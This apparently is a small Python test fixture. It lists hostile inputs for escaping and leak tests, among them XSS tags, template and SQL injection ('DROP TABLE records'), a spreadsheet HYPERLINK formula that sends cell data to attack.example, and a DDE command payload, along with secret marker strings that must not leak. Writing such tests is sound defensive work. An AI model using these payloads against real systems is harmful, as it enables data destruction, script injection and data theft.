"""Hostile words of the small atlas, and words of its private source, for which tests search."""

ATTACKS = (
    "<script>alert('overt-attack')</script>",
    "\"><img src=x onerror=alert('overt-attack')>",
    "</title></textarea></style><svg/onload=alert(`overt-attack`)>",
    "{{ 7 * 191 }}{% raw %}${7*191}",
    "'; DROP TABLE records; --",
    '=HYPERLINK("http://attack.example/?x="&A1,"overt-attack")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "&lt;b&gt;overt-attack&amp;lt;",
)
SECRETS = (
    "Geheimprojekt",
    "Zürn Überwachung",
    "祖恩秘密公司",
    "SECRET-77",
    "secret_map:",
    "987654321",
    "13.3713",
    "confidential excerpt",
    "Nebelburg",
)
"""Words of the private source, none of which may appear in public."""
